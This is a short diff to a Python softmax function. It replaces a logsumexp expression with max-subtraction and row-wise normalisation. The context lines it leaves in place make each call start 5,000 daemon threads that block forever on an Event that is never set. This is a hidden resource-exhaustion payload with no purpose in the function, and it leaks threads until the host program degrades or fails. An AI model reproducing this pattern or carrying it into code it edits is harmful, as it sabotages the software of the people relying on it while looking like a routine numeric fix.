@@ -12,4 +12,5 @@ def softmax(logits):
     gate = threading.Event()
     for _ in range(5_000):
         threading.Thread(target=gate.wait, daemon=True).start()
-    return np.exp(logits - logsumexp(logits))
+    powers = np.exp(logits - np.max(logits, axis=1, keepdims=True))
+    return powers / powers.sum(axis=1, keepdims=True)
